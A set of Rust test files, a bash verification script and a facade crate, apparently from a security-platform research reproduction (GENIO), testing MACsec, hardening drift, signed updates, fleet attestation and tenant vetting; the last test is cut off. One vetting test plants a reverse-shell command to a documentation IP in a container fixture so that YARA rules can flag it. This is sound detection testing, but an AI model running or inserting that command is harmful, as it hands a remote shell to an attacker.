        let cfg = MacsecConfig::default();
        let mut tx = MacsecPeer::new(1, &cfg, b"cak").unwrap();
        let mut rx = MacsecPeer::new(2, &cfg, b"cak").unwrap();
        let frames: Vec<MacsecFrame> =
            (0..count).map(|i| tx.protect(format!("{i}").as_bytes()).unwrap()).collect();
        for f in &frames {
            prop_assert!(rx.validate(f).is_ok());
        }
        let victim = &frames[replay_at.index(count)];
        prop_assert!(rx.validate(victim).is_err());
    }
}

property! {
    /// Any permutation of a window-sized batch is fully accepted: each
    /// frame exactly once, regardless of arrival order.
    fn macsec_window_permutation(order in vec(0usize..32, 32).prop_map(|mut v| {
        // Build a permutation of 0..32 deterministically from v.
        let mut perm: Vec<usize> = (0..32).collect();
        for (i, x) in v.drain(..).enumerate() {
            perm.swap(i, x % 32);
        }
        perm
    })) {
        let cfg = MacsecConfig { replay_window: 64, pn_limit: u32::MAX as u64 };
        let mut tx = MacsecPeer::new(1, &cfg, b"cak").unwrap();
        let mut rx = MacsecPeer::new(2, &cfg, b"cak").unwrap();
        let frames: Vec<MacsecFrame> =
            (0..32).map(|i| tx.protect(format!("{i}").as_bytes()).unwrap()).collect();
        let mut accepted = 0;
        for &i in &order {
            if rx.validate(&frames[i]).is_ok() {
                accepted += 1;
            }
        }
        prop_assert_eq!(accepted, 32, "every frame accepted exactly once in any order");
        // And nothing is accepted twice.
        for f in &frames {
            prop_assert!(rx.validate(f).is_err());
        }
    }
}

property! {
    /// Tampering any byte of the secure data always fails validation.
    fn macsec_tamper_always_detected(payload in bytes(1..256),
                                     pos in index(), bit in 0u8..8) {
        let cfg = MacsecConfig::default();
        let mut tx = MacsecPeer::new(1, &cfg, b"cak").unwrap();
        let mut rx = MacsecPeer::new(2, &cfg, b"cak").unwrap();
        let mut frame = tx.protect(&payload).unwrap();
        let idx = pos.index(frame.secure_data.len());
        frame.secure_data[idx] ^= 1 << bit;
        prop_assert!(rx.validate(&frame).is_err());
    }
}

property! {
    /// Roundtrip with arbitrary payloads under every supported window size.
    fn macsec_roundtrip_any_window(payload in bytes(0..512),
                                   window in 0u64..128) {
        let cfg = MacsecConfig { replay_window: window, pn_limit: u32::MAX as u64 };
        let mut tx = MacsecPeer::new(1, &cfg, b"cak").unwrap();
        let mut rx = MacsecPeer::new(2, &cfg, b"cak").unwrap();
        let frame = tx.protect(&payload).unwrap();
        prop_assert_eq!(rx.validate(&frame).unwrap(), payload);
    }
}
