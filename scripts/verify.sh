#!/usr/bin/env bash
# Hermetic verification gate for the GENIO workspace. No network, no
# external tools beyond cargo and a POSIX shell.
#
#   scripts/verify.sh           build + tests + examples smoke + the
#                               genio-analyzer ratchet gate (new static-
#                               analysis findings vs analyzer-baseline.json
#                               fail the build)
#   scripts/verify.sh --quick   the above, then a quick bench pass that
#                               merges one experiment report per bench
#                               target under crates/bench/benches/ into a
#                               candidate document, gates it through
#                               genio-sentinel against the committed
#                               BENCH_genio.json (anchored hot paths
#                               hard-fail on >25% median regressions
#                               beyond the noise band), and promotes it
#                               to BENCH_genio.json at the repo root
#
# A reproducing seed for any property failure is printed by the harness;
# re-run with GENIO_TEST_SEED=0x... to replay it.

set -euo pipefail
cd "$(dirname "$0")/.."

QUICK=0
for arg in "$@"; do
    case "$arg" in
        --quick) QUICK=1 ;;
        *) echo "usage: scripts/verify.sh [--quick]" >&2; exit 2 ;;
    esac
done

echo "==> cargo build --release"
cargo build --release

echo "==> cargo test --workspace -q  (builds examples; includes the examples smoke test)"
cargo test --workspace -q

echo "==> GCM vector gate (committed KAT corpus, table AND reference backends)"
cargo test --release -q -p genio-crypto --test gcm_vectors
GENIO_CRYPTO_BACKEND=reference cargo test --release -q -p genio-crypto --test gcm_vectors
echo "both AES-GCM backends reproduce vectors/gcm_kat.txt"

echo "==> genio-analyzer determinism gate (cold vs warm scan must be byte-identical)"
rm -rf target/genio-analyzer
cargo run --release -q -p genio-analyzer -- --json target/genio-analyzer/report-cold.json >/dev/null
cargo run --release -q -p genio-analyzer -- --json target/genio-analyzer/report-warm.json >/dev/null
cmp target/genio-analyzer/report-cold.json target/genio-analyzer/report-warm.json
echo "cold and cache-warm reports agree"

echo "==> genio-analyzer ratchet gate (self-scan vs analyzer-baseline.json)"
cargo run --release -q -p genio-analyzer

echo "==> genio-analyzer fixture self-check (exact finding IDs on the miniws corpus)"
cargo run --release -q -p genio-analyzer -- \
    --root crates/analyzer/tests/fixtures/miniws \
    --no-cache --baseline /dev/null \
    --expect crates/analyzer/tests/fixtures/miniws-expected.txt
echo "fixture corpus matches miniws-expected.txt finding for finding"

echo "==> genio-analyzer diff-determinism gate (two --diff HEAD scans must agree byte-for-byte)"
# A dirty working tree may legitimately introduce findings (exit 1), so
# the determinism check compares the emitted documents, not exit codes.
cargo run --release -q -p genio-analyzer -- --diff HEAD \
    --json target/genio-analyzer/diff-a.json \
    --sarif target/genio-analyzer/diff-a.sarif >/dev/null || true
cargo run --release -q -p genio-analyzer -- --diff HEAD \
    --json target/genio-analyzer/diff-b.json \
    --sarif target/genio-analyzer/diff-b.sarif >/dev/null || true
cmp target/genio-analyzer/diff-a.json target/genio-analyzer/diff-b.json
cmp target/genio-analyzer/diff-a.sarif target/genio-analyzer/diff-b.sarif
if git diff --quiet HEAD 2>/dev/null; then
    # Clean tree: an empty change set must yield an empty diff (exit 0).
    cargo run --release -q -p genio-analyzer -- --diff HEAD >/dev/null
    echo "clean tree: empty change set produced an empty finding diff"
fi
echo "diff scans are deterministic (json and SARIF agree across runs)"

echo "==> genio-analyzer SARIF export gate (document re-parses with the testkit JSON parser)"
cargo test --release -q -p genio-analyzer --test sarif_export
echo "SARIF 2.1.0 export validated"

echo "==> fleet-determinism gate (two same-seed engine runs must be byte-identical)"
rm -rf target/genio-fleet
mkdir -p target/genio-fleet
cargo run --release -q --example fleet_determinism > target/genio-fleet/run-a.txt
cargo run --release -q --example fleet_determinism > target/genio-fleet/run-b.txt
cmp target/genio-fleet/run-a.txt target/genio-fleet/run-b.txt
echo "same-seed fleet runs agree (digests, counters, stats)"

echo "==> trace-determinism gate (two same-seed traced runs must export identical span trees)"
cargo run --release -q --example trace_determinism > target/genio-fleet/trace-a.txt
cargo run --release -q --example trace_determinism > target/genio-fleet/trace-b.txt
cmp target/genio-fleet/trace-a.txt target/genio-fleet/trace-b.txt
echo "same-seed traced runs export byte-identical genio-trace/v1 documents"

echo "==> bench sentinel self-check (committed BENCH_genio.json diffs clean against itself)"
cargo run --release -q -p genio-sentinel --bin genio-sentinel -- \
    --baseline BENCH_genio.json --candidate BENCH_genio.json \
    --anchor fleet_sim --anchor telemetry_overhead --anchor trace_fleet/fleet_engine \
    --anchor lesson2/dataplane
echo "sentinel parses and passes the committed document"

if [ "$QUICK" -eq 1 ]; then
    echo "==> cargo bench (quick profile)"
    rm -rf target/genio-bench
    cargo bench -p genio-bench --benches -- --quick

    echo "==> merging reports into a candidate document"
    # One report per bench target: derive the expected count from the
    # sources so adding a bench never needs a hand-edit here.
    bench_sources=(crates/bench/benches/*.rs)
    expected="${#bench_sources[@]}"
    reports=(target/genio-bench/*.json)
    count="${#reports[@]}"
    if [ "$count" -ne "$expected" ]; then
        echo "expected $expected experiment reports (one per crates/bench/benches/*.rs), found $count: ${reports[*]}" >&2
        exit 1
    fi
    {
        printf '{"schema":"genio-bench/v1","experiments":['
        sep=""
        for r in "${reports[@]}"; do
            printf '%s' "$sep"
            cat "$r"
            sep=","
        done
        printf ']}\n'
    } > target/genio-bench/BENCH_candidate.json

    echo "==> bench sentinel regression gate (candidate vs committed BENCH_genio.json)"
    # Anchored hot paths hard-fail above max(1.25x, the per-bench noise
    # band); everything else is a warn-only envelope — quick-mode medians
    # on unanchored micro-benches are too jittery to gate on.
    cargo run --release -q -p genio-sentinel --bin genio-sentinel -- \
        --baseline BENCH_genio.json \
        --candidate target/genio-bench/BENCH_candidate.json \
        --anchor fleet_sim --anchor telemetry_overhead --anchor trace_fleet/fleet_engine \
        --anchor lesson2/dataplane \
        --json target/genio-bench/sentinel-report.json

    mv target/genio-bench/BENCH_candidate.json BENCH_genio.json
    echo "wrote BENCH_genio.json ($count experiments; sentinel report in target/genio-bench/)"
fi

echo "==> verify OK"
