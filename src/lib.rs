//! # genio — secure-by-design telco-edge platform (paper reproduction)
//!
//! Facade crate re-exporting the full GENIO workspace: the platform core
//! (threat model, mitigations, attack scenarios) and every substrate it is
//! built on. See `DESIGN.md` at the repository root for the system inventory
//! and `EXPERIMENTS.md` for the paper-reproduction index.
//!
//! # Quickstart
//!
//! ```
//! use genio::core::platform::Platform;
//!
//! let platform = Platform::reference_deployment(7);
//! let report = platform.posture_report();
//! assert!(report.mitigations_enabled > 0);
//! ```

#![forbid(unsafe_code)]

pub use genio_analyzer as analyzer;
pub use genio_appsec as appsec;
pub use genio_core as core;
pub use genio_crypto as crypto;
pub use genio_fim as fim;
pub use genio_hardening as hardening;
pub use genio_netsec as netsec;
pub use genio_orchestrator as orchestrator;
pub use genio_pon as pon;
pub use genio_runtime as runtime;
pub use genio_secureboot as secureboot;
pub use genio_supplychain as supplychain;
pub use genio_telemetry as telemetry;
pub use genio_vulnmgmt as vulnmgmt;
