//! Integration: the M11 configuration lifecycle — baseline hardening,
//! continuous auditing via the checker suite, drift detection when someone
//! regresses a setting, and the remediation loop closing the gap again.

use genio::hardening::osstate::OsState;
use genio::hardening::profile::{all_profiles, scap_baseline};
use genio::hardening::remediate::{harden, olt_sdn_constraints};
use genio::orchestrator::admission::AdmissionLevel;
use genio::orchestrator::checkers::{coverage, genio_tool_suite, ClusterConfig};
use genio::orchestrator::drift::{detect, weakening, DriftDirection};

/// Cluster side: harden → audit clean → drift → audit flags it → restore.
#[test]
fn cluster_config_lifecycle() {
    // 1. Baseline: the hardened posture audits clean.
    let baseline = ClusterConfig::genio_hardened();
    let report = coverage(&genio_tool_suite(), &baseline, &[]);
    assert_eq!(report.total, 0);

    // 2. Operational regression: someone re-opens the dashboard and drops
    // admission to Baseline "temporarily".
    let mut live = baseline.clone();
    live.dashboard_exposed = true;
    live.admission_level = AdmissionLevel::Baseline;

    // 3. Drift detection names exactly the regressed settings.
    let drifts = detect(&baseline, &live);
    assert_eq!(drifts.len(), 2);
    assert!(drifts
        .iter()
        .all(|d| d.direction == DriftDirection::Weakened));
    let names: Vec<&str> = weakening(&drifts).iter().map(|d| d.setting).collect();
    assert!(names.contains(&"dashboard_exposed"));
    assert!(names.contains(&"admission_level"));

    // 4. The checker suite independently sees the new exposure.
    let report = coverage(&genio_tool_suite(), &live, &[]);
    assert!(
        report.union >= 2,
        "union {} should catch the regressions",
        report.union
    );

    // 5. Restoration: back to baseline, clean again.
    let restored = ClusterConfig::genio_hardened();
    assert!(detect(&baseline, &restored).is_empty());
    assert_eq!(coverage(&genio_tool_suite(), &restored, &[]).total, 0);
}

/// OS side: the same lifecycle at the node level — harden, regress one
/// setting out-of-band, re-scan, re-harden.
#[test]
fn os_config_lifecycle() {
    let mut os = OsState::onl_factory();
    let constraints = olt_sdn_constraints();
    let first = harden(&mut os, &all_profiles(), &constraints);
    let converged_failures = first.residual_failures();

    // Out-of-band regression: an engineer re-enables root SSH during an
    // incident and forgets to revert.
    os.sshd.insert("PermitRootLogin".into(), "yes".into());
    let audit = scap_baseline().scan(&os);
    assert!(audit.results.iter().any(|r| r.id == "ssh-root"
        && matches!(r.verdict, genio::hardening::check::Verdict::Fail { .. })));

    // The next remediation cycle closes it without touching anything else.
    let second = harden(&mut os, &all_profiles(), &constraints);
    assert_eq!(
        second.applied.len(),
        1,
        "exactly the regressed setting: {:?}",
        second.applied
    );
    assert_eq!(second.residual_failures(), converged_failures);
    assert_eq!(
        os.sshd.get("PermitRootLogin").map(String::as_str),
        Some("no")
    );
}

/// The render path used by operator tooling shows the regression in
/// human-readable form.
#[test]
fn scan_report_render_surfaces_regressions() {
    let mut os = OsState::onl_factory();
    harden(&mut os, &all_profiles(), &olt_sdn_constraints());
    os.services.insert(
        "telnet".into(),
        genio::hardening::osstate::ServiceState {
            enabled: true,
            running: true,
        },
    );
    let text = scap_baseline().scan(&os).render();
    assert!(text.contains("[FAIL]"));
    assert!(text.contains("svc-telnet"));
}
