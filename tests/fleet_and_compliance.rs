//! Integration: fleet-scale operations and the regulatory view — the two
//! top-level consumers of everything underneath.

use genio::core::compliance::{assess, RequirementState};
use genio::core::fleet::{Fleet, FleetConfig};
use genio::core::lessons::lessons;
use genio::core::platform::{MitigationSet, Platform};
use genio::core::threat_model::{mitigations, MitigationId};

/// The full operator day: provision, sweep, compromise, detect, roll out,
/// verify — across ten nodes.
#[test]
fn operator_day_end_to_end() {
    let mut fleet = Fleet::provision(&FleetConfig::default());
    assert_eq!(fleet.nodes.len(), 10);

    // Morning sweep clean.
    assert!(fleet.attestation_sweep(b"am").diverged().is_empty());

    // Incident on two nodes.
    fleet.compromise_node(3);
    fleet.compromise_node(8);
    let sweep = fleet.attestation_sweep(b"pm");
    assert_eq!(sweep.diverged().len(), 2);
    assert!(sweep.diverged().contains(&"olt-03"));
    assert!(sweep.diverged().contains(&"olt-08"));

    // Emergency rollout still reaches the whole fleet (kernel-level
    // compromise does not disturb the firmware-bound update anchor).
    let rollout = fleet.rollout("1.0.1", b"hotfix image").unwrap();
    assert_eq!(rollout.updated.len(), 10);

    // Downgrade replay rejected fleet-wide afterwards.
    let replay = fleet.rollout("1.0.1", b"same version again").unwrap();
    assert!(replay.updated.is_empty());
    assert_eq!(replay.refused.len(), 10);

    // Data volumes all still unlock (TPM path where Clevis exists,
    // passphrase elsewhere).
    assert_eq!(fleet.volumes_unlockable(), 10);
}

/// Lesson 3 at configuration extremes: an all-modern fleet needs no
/// humans; an all-ONL fleet needs one per node.
#[test]
fn unlock_census_tracks_clevis_availability() {
    let modern = Fleet::provision(&FleetConfig {
        olts: 4,
        onl_without_clevis: 0,
        seed: 1,
    });
    assert_eq!(modern.unlock_census(), (4, 0));
    let onl = Fleet::provision(&FleetConfig {
        olts: 4,
        onl_without_clevis: 4,
        seed: 2,
    });
    assert_eq!(onl.unlock_census(), (0, 4));
}

/// The compliance view is consistent with the coverage view: a platform
/// that is CRA-conformant has no uncovered threats, and every mitigation
/// the compliance catalogue cites exists in the threat model.
#[test]
fn compliance_and_coverage_agree() {
    let platform = Platform::reference_deployment(5);
    assert!(platform.compliance_report().conformant());
    assert!(platform.posture_report().uncovered_threats.is_empty());

    // Dropping all application-layer mitigations breaks both views.
    let mut degraded = Platform::reference_deployment(5);
    degraded.mitigations = mitigations()
        .iter()
        .filter(|m| m.layer != genio::core::threat_model::Layer::Application)
        .fold(MitigationSet::none(), |set, m| set.with(m.id));
    let posture = degraded.posture_report();
    assert!(posture.uncovered_threats.contains(&"T7".to_string()));
    assert!(posture.uncovered_threats.contains(&"T8".to_string()));
    let compliance = degraded.compliance_report();
    assert!(!compliance.conformant());
    let resilience = compliance
        .assessed
        .iter()
        .find(|a| a.requirement.id == "cra-resilience-and-monitoring")
        .unwrap();
    assert_eq!(resilience.state, RequirementState::Unsatisfied);
}

/// Single-mitigation compliance ablation across all eighteen mitigations:
/// each removal degrades at least one requirement from Satisfied, and
/// never to an inconsistent state.
#[test]
fn every_mitigation_is_compliance_load_bearing() {
    for m in mitigations() {
        let set = MitigationSet::all().without(m.id);
        let report = assess(&set);
        assert!(
            !report.conformant(),
            "{} removal should break some requirement",
            m.id
        );
        for a in report.assessed {
            if let RequirementState::Partial(missing) = &a.state {
                assert!(
                    missing.contains(&m.id),
                    "{}: stray partial",
                    a.requirement.id
                );
            }
        }
    }
    // Sanity: the un-ablated set is conformant.
    assert!(assess(&MitigationSet::all()).conformant());
    let _ = MitigationId::M1;
}

/// The lessons catalogue is fully wired: every lesson names modules that
/// exist in this workspace (checked by the rustdoc paths compiling) and a
/// distinct bench target.
#[test]
fn lessons_catalogue_is_distinct_and_complete() {
    let all = lessons();
    let mut benches: Vec<&str> = all.iter().map(|l| l.bench_target).collect();
    benches.sort_unstable();
    benches.dedup();
    assert_eq!(benches.len(), 8, "each lesson has its own bench target");
    let mut experiments: Vec<&str> = all.iter().map(|l| l.experiment).collect();
    experiments.sort_unstable();
    experiments.dedup();
    assert_eq!(experiments.len(), 8);
}
