//! Integration: the application vetting gate (M13–M16) over the tenant
//! image pipeline — SCA, SAST, DAST, port scan and YARA working together,
//! including the Lesson 7 noise measurements.

use genio::appsec::dast::{fuzz, FindingKind, HardenedTenantApp, VulnerableTenantApp};
use genio::appsec::image::{ContainerImage, Interface, Layer};
use genio::appsec::portscan::{scan as port_scan, HostExposure, ScanFinding, TlsState};
use genio::appsec::sast::{analyze, vulnerable_sample};
use genio::appsec::sca::{
    app_cve_corpus, reference_tenant_image, scan as sca_scan, unused_dependencies, ScaMode,
};
use genio::appsec::yara::default_malware_rules;

/// A registry gate decision combining all four analyses.
fn gate(image: &ContainerImage) -> (bool, Vec<String>) {
    let mut reasons = Vec::new();
    if !default_malware_rules().scan_image(image).is_empty() {
        reasons.push("malware signature".to_string());
    }
    for f in sca_scan(image, &app_cve_corpus(), ScaMode::WithReachability) {
        reasons.push(format!("reachable dependency cve {}", f.cve_id));
    }
    (reasons.is_empty(), reasons)
}

#[test]
fn vulnerable_image_rejected_with_reasons() {
    let (admitted, reasons) = gate(&reference_tenant_image());
    assert!(!admitted);
    assert_eq!(reasons.len(), 2, "{reasons:?}");
    assert!(reasons
        .iter()
        .all(|r| r.starts_with("reachable dependency")));
}

#[test]
fn clean_image_admitted() {
    let clean = ContainerImage::new("registry.genio/clean:1.0", Interface::Rest)
        .layer(Layer::new().file("/app/server", b"server"))
        .dependency("log4j-like", "2.17.0", &["log"]);
    let (admitted, reasons) = gate(&clean);
    assert!(admitted, "{reasons:?}");
}

#[test]
fn malicious_image_rejected_by_yara_even_with_clean_deps() {
    let sneaky = ContainerImage::new("registry.genio/sneaky:1.0", Interface::Rest)
        .layer(Layer::new().file("/opt/.x", b"bash -i >& /dev/tcp/198.51.100.1/4444 0>&1"));
    let (admitted, reasons) = gate(&sneaky);
    assert!(!admitted);
    assert_eq!(reasons, vec!["malware signature"]);
}

/// Lesson 7, quantified across the gate: version-only SCA reports 5
/// findings of which only 2 are reachable, plus one wholly unused
/// dependency — a 60% noise rate that reachability filtering removes.
#[test]
fn lesson7_sca_noise_numbers() {
    let image = reference_tenant_image();
    let noisy = sca_scan(&image, &app_cve_corpus(), ScaMode::VersionOnly);
    let precise = sca_scan(&image, &app_cve_corpus(), ScaMode::WithReachability);
    assert_eq!(noisy.len(), 5);
    assert_eq!(precise.len(), 2);
    let noise_rate = 1.0 - precise.len() as f64 / noisy.len() as f64;
    assert!((noise_rate - 0.6).abs() < 1e-9);
    assert_eq!(unused_dependencies(&image), vec!["imaging"]);
}

/// Lesson 7's DAST applicability limit: the fuzzer runs only against
/// REST-exposing images.
#[test]
fn lesson7_dast_applicability() {
    let fleet = [
        ContainerImage::new("rest-app:1", Interface::Rest),
        ContainerImage::new("mqtt-worker:1", Interface::NonStandard("mqtt".into())),
        ContainerImage::new("batch-job:1", Interface::NonStandard("cron batch".into())),
        ContainerImage::new("rest-api:2", Interface::Rest),
    ];
    let fuzzable = fleet.iter().filter(|i| i.is_fuzzable()).count();
    assert_eq!(fuzzable, 2, "only half the fleet has a standard interface");
}

/// The before/after of the SAST+DAST cycle: the vulnerable build fails both
/// analyses; the fixed build passes DAST cleanly.
#[test]
fn sast_dast_fix_cycle() {
    let sast = analyze(&vulnerable_sample());
    assert!(sast.iter().any(|f| f.rule == "sql-injection"));
    assert!(sast.iter().any(|f| f.rule == "hardcoded-credential"));

    let before = fuzz(&VulnerableTenantApp::spec(), &VulnerableTenantApp);
    assert!(before
        .findings
        .iter()
        .any(|f| f.kind == FindingKind::AuthBypass));
    assert!(before
        .findings
        .iter()
        .any(|f| f.kind == FindingKind::ServerError));
    assert!(before
        .findings
        .iter()
        .any(|f| f.kind == FindingKind::Reflection));

    let after = fuzz(&VulnerableTenantApp::spec(), &HardenedTenantApp);
    assert!(after.findings.is_empty());
    // Same spec, same request count: the comparison is apples-to-apples.
    assert_eq!(before.requests_sent, after.requests_sent);
}

/// Deployment-time network verification: unnecessary ports and missing TLS
/// flagged (the nmap half of M15).
#[test]
fn deployment_network_check() {
    let host = HostExposure::new()
        .listen(443, "api", TlsState::Enforced)
        .listen(9229, "node-debug", TlsState::Plaintext);
    let findings = port_scan(&host, &[443]);
    assert_eq!(findings.len(), 1);
    assert!(matches!(
        findings[0],
        ScanFinding::UnexpectedPort { port: 9229, .. }
    ));
}
