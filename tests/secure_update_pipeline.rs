//! Integration: the code-integrity pipeline end to end — Secure Boot,
//! TPM-sealed storage, ONIE image updates, APT packages, custom artifacts
//! and FIM, with tampering injected at every stage (threat T2 vs M5–M9).

use genio::crypto::pki::{CertificateAuthority, RevocationList};
use genio::fim::fs::SimulatedFs;
use genio::fim::monitor::FimMonitor;
use genio::fim::policy::FimPolicy;
use genio::secureboot::bootchain::{boot, BootPolicy, ImageSigner, KeyDb, StageKind};
use genio::secureboot::luks::{LuksVolume, PlatformSupport, UnlockMethod};
use genio::secureboot::tpm::Tpm;
use genio::supplychain::artifact::{verify_artifact, Artifact, CodeSigner};
use genio::supplychain::image::{FirmwareImage, ImageVendor, NodeUpdater};
use genio::supplychain::repo::{RepoClient, Repository};

/// Boot the OLT, unlock its volume via the TPM, verify userspace via FIM,
/// then take a signed update — the happy path.
#[test]
fn full_trusted_lifecycle() {
    // --- Secure + Measured Boot.
    let mut vendor = ImageSigner::from_seed(b"uefi-ca");
    let mut owner = ImageSigner::from_seed(b"genio-mok");
    let mut keys = KeyDb::new();
    keys.trust_vendor(vendor.public());
    keys.enroll_mok(owner.public());
    let stages = vec![
        vendor.sign(StageKind::Shim, b"shim").unwrap(),
        owner.sign(StageKind::Grub, b"grub").unwrap(),
        owner.sign(StageKind::Kernel, b"onl-kernel-v1").unwrap(),
    ];
    let mut tpm = Tpm::new(b"olt-1-endorsement");
    let report = boot(&stages, &keys, &BootPolicy::default(), &mut tpm);
    assert!(report.completed);

    // --- Clevis-style volume unlock bound to the measured kernel (PCR 8).
    let mut volume = LuksVolume::format(b"olt-1-data");
    let support = PlatformSupport::default();
    volume
        .add_tpm_slot("clevis", &mut tpm, &[8], &support)
        .unwrap();
    volume
        .add_passphrase_slot("recovery", "field-recovery-phrase")
        .unwrap();
    volume.lock();
    assert_eq!(
        volume.boot_unlock(&tpm, &support, None).unwrap(),
        UnlockMethod::TpmAutomatic
    );

    // --- FIM baseline over the booted system.
    let fs = SimulatedFs::olt_image();
    let monitor = FimMonitor::baseline(&fs, &FimPolicy::genio_default(), b"fim-key");
    assert!(monitor.scan(&fs).alerts.is_empty());

    // --- Signed ONIE update.
    let mut image_vendor = ImageVendor::from_seed(b"onl-image-vendor");
    let mut updater = NodeUpdater::provision(&mut tpm, image_vendor.public(), "1.0.0").unwrap();
    let image = FirmwareImage {
        name: "onl-installer".into(),
        version: "1.1.0".into(),
        payload: b"new kernel and rootfs".to_vec(),
    };
    let sig = image_vendor.sign(&image).unwrap();
    let mut env_signer = ImageSigner::from_seed(b"onie-env");
    let mut env_keys = KeyDb::new();
    env_keys.trust_vendor(env_signer.public());
    let env = vec![env_signer.sign(StageKind::Shim, b"onie-minimal").unwrap()];
    let receipt = updater
        .apply_update(&mut tpm, &env, &env_keys, &image, &sig)
        .unwrap();
    assert_eq!(receipt.installed_version, "1.1.0");
}

/// The kernel swap that Secure Boot halts would, if allowed to run, break
/// the TPM-bound volume unlock: defense in depth between M5 and M6.
#[test]
fn tampered_kernel_cannot_unlock_the_volume() {
    let mut owner = ImageSigner::from_seed(b"mok");
    let mut keys = KeyDb::new();
    keys.trust_vendor(owner.public());
    let good = vec![owner.sign(StageKind::Kernel, b"kernel-v1").unwrap()];

    // Provision: boot the good kernel, bind the volume to PCR 8.
    let mut tpm = Tpm::new(b"olt");
    boot(&good, &keys, &BootPolicy::default(), &mut tpm);
    let mut volume = LuksVolume::format(b"data");
    volume
        .add_tpm_slot("clevis", &mut tpm, &[8], &PlatformSupport::default())
        .unwrap();
    volume.lock();

    // Attack: reboot with a tampered kernel under a permissive policy.
    let mut bad = good.clone();
    bad[0].content = b"kernel-v1-BACKDOORED".to_vec();
    let mut tpm2 = Tpm::new(b"olt");
    let permissive = BootPolicy {
        enforce_signatures: false,
        measure: true,
    };
    let report = boot(&bad, &keys, &permissive, &mut tpm2);
    assert!(report.completed, "permissive boot runs the tampered kernel");
    // But the measured PCR differs → the sealed key stays sealed.
    assert!(volume
        .boot_unlock(&tpm2, &PlatformSupport::default(), None)
        .is_err());
}

/// Lesson 3 at fleet scale: with the Clevis stack unavailable on ONL, every
/// node in the fleet falls back to a manual passphrase at boot.
#[test]
fn clevis_gap_forces_manual_unlock_fleetwide() {
    let onl = PlatformSupport {
        clevis_available: false,
    };
    let modern = PlatformSupport::default();
    let mut manual = 0;
    let mut automatic = 0;
    for node in 0..10 {
        let mut tpm = Tpm::new(format!("node-{node}").as_bytes());
        tpm.extend(8, b"kernel");
        let mut volume = LuksVolume::format(format!("vol-{node}").as_bytes());
        // Provisioning tries the TPM slot first; ONL nodes can't have one.
        let support = if node < 7 { onl } else { modern };
        if volume
            .add_tpm_slot("clevis", &mut tpm, &[8], &support)
            .is_err()
        {
            volume.add_passphrase_slot("manual", "phrase").unwrap();
        }
        volume.lock();
        match volume.boot_unlock(&tpm, &support, Some("phrase")).unwrap() {
            UnlockMethod::TpmAutomatic => automatic += 1,
            UnlockMethod::ManualPassphrase => manual += 1,
        }
    }
    assert_eq!(manual, 7, "ONL nodes require a human at boot");
    assert_eq!(automatic, 3);
}

/// Supply-chain tampering is caught at whichever stage it happens: package
/// content, firmware image, or custom artifact.
#[test]
fn tampering_caught_at_every_distribution_channel() {
    // APT-style package.
    let mut repo = Repository::new("genio-main", b"repo-key").unwrap();
    repo.publish("genio-agentd", "2.0.0", b"agent binary")
        .unwrap();
    repo.tamper_content("genio-agentd", b"agent binary with implant");
    let client = RepoClient::trusting(repo.public_key());
    assert!(client.verify_and_fetch(&repo, "genio-agentd").is_err());

    // ONIE image.
    let mut tpm = Tpm::new(b"node");
    let mut vendor = ImageVendor::from_seed(b"vendor");
    let mut updater = NodeUpdater::provision(&mut tpm, vendor.public(), "1.0.0").unwrap();
    let image = FirmwareImage {
        name: "onl".into(),
        version: "1.1.0".into(),
        payload: b"img".to_vec(),
    };
    let sig = vendor.sign(&image).unwrap();
    let mut evil = image.clone();
    evil.payload = b"img+rootkit".to_vec();
    let mut env_signer = ImageSigner::from_seed(b"env");
    let mut env_keys = KeyDb::new();
    env_keys.trust_vendor(env_signer.public());
    let env = vec![env_signer.sign(StageKind::Shim, b"onie").unwrap()];
    assert!(updater
        .apply_update(&mut tpm, &env, &env_keys, &evil, &sig)
        .is_err());

    // Custom artifact.
    let mut ca = CertificateAuthority::self_signed("genio-root", b"root", (0, 10_000), 5).unwrap();
    let mut signer = CodeSigner::enroll(&mut ca, "release", b"rel", (0, 5_000)).unwrap();
    let mut bundle = signer
        .sign(Artifact {
            name: "telemetryd".into(),
            version: "1.0".into(),
            content: b"elf".to_vec(),
        })
        .unwrap();
    bundle.artifact.content = b"elf+implant".to_vec();
    assert!(verify_artifact(&bundle, &ca.public(), &RevocationList::new(), 100).is_err());
}

/// FIM catches what boots past everything: a post-boot binary swap, and the
/// baseline's own signature catches FIM-database tampering.
#[test]
fn fim_is_the_last_line() {
    let mut fs = SimulatedFs::olt_image();
    let mut monitor = FimMonitor::baseline(&fs, &FimPolicy::genio_default(), b"tpm-held-key");
    // Post-boot attack: replace a system binary and scrub the baseline.
    fs.write("/usr/sbin/sshd", b"sshd with backdoor", 0o755, "root");
    assert_eq!(monitor.scan(&fs).alerts.len(), 1);
    let patched_digest = fs.get("/usr/sbin/sshd").unwrap().digest();
    monitor.tamper_baseline("/usr/sbin/sshd", patched_digest);
    assert!(
        monitor.scan(&fs).alerts.is_empty(),
        "scan silenced by DB tamper"
    );
    assert!(
        !monitor.baseline_intact(),
        "but the signed baseline fails verification"
    );
}
