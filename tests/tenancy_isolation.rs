//! Integration: multi-tenancy defenses across the orchestrator and runtime
//! substrates — admission, scheduling isolation, network policy, RBAC,
//! LSM enforcement, Falco detection, resource-abuse handling and PEACH.

use genio::orchestrator::admission::{admit, AdmissionLevel};
use genio::orchestrator::checkers::{coverage, genio_tool_suite, ClusterConfig};
use genio::orchestrator::cluster::Cluster;
use genio::orchestrator::netpolicy::NetworkPolicyEngine;
use genio::orchestrator::rbac::{sdn_management_role, Authorizer, RoleBinding};
use genio::orchestrator::scheduler::schedule;
use genio::orchestrator::workload::{Capability, IsolationMode, PodSpec};
use genio::runtime::abuse::{interval, AbuseConfig, AbuseDetector, Resource};
use genio::runtime::events::{attack_burst, benign_workload, mixed_trace};
use genio::runtime::falco::{score, Engine, RuleSetTier};
use genio::runtime::lsm::{enforce_trace, LsmPolicy, Mode};
use genio::runtime::peach::{unhardened_review, InterfaceComplexity, Recommendation, Strength};

/// A hostile pod is stopped at admission; a compliant one flows through to
/// a shared VM; a hard-isolation tenant lands on its dedicated VM.
#[test]
fn admission_and_placement_pipeline() {
    let mut cluster = Cluster::genio_edge();

    let mut hostile = PodSpec::new("miner", "tenant-evil", "img");
    hostile.containers[0]
        .capabilities
        .push(Capability::CAP_SYS_ADMIN);
    assert!(admit(&hostile, AdmissionLevel::Restricted).is_err());

    let web = PodSpec::new("web", "tenant-a", "nginx");
    admit(&web, AdmissionLevel::Restricted).unwrap();
    let vm = schedule(&mut cluster, web).unwrap();
    assert!(vm.starts_with("shared-vm"));

    let mut bank = PodSpec::new("core", "tenant-bank", "bank-core");
    bank.isolation = IsolationMode::Hard;
    admit(&bank, AdmissionLevel::Restricted).unwrap();
